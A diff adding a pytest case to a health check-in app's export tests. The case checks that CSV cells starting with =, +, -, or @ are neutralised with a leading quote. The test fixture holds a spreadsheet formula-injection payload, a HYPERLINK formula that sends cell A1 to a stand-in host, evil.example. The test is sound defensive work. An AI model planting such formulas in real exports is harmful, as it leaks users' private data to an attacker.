@@ -218,3 +218,15 @@ def test_therapist_deletion_ends_shares_and_keeps_client_data(app, logged_in_cli
 def test_exports_are_for_clients_only(app, client, therapist_user, path):
     log_in(client, therapist_user)
     assert client.get(path).status_code == 403
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(app, logged_in_client, start):
+    note = f'{start}HYPERLINK("http://evil.example/?"&A1, "Click")'
+    submit(logged_in_client, "/today", {"pain_neck": "3", "note": note})
+    files = read_zip(logged_in_client.get("/account/export.zip").data)
+    [row] = files["checkins.csv"]
+    assert row["note"] == "'" + note  # shown as text, never run
+    assert (
+        files["pain_scores.csv"][0]["pain (0-10, 0 = no pain, 10 = worst pain imaginable)"] == "3"
+    )
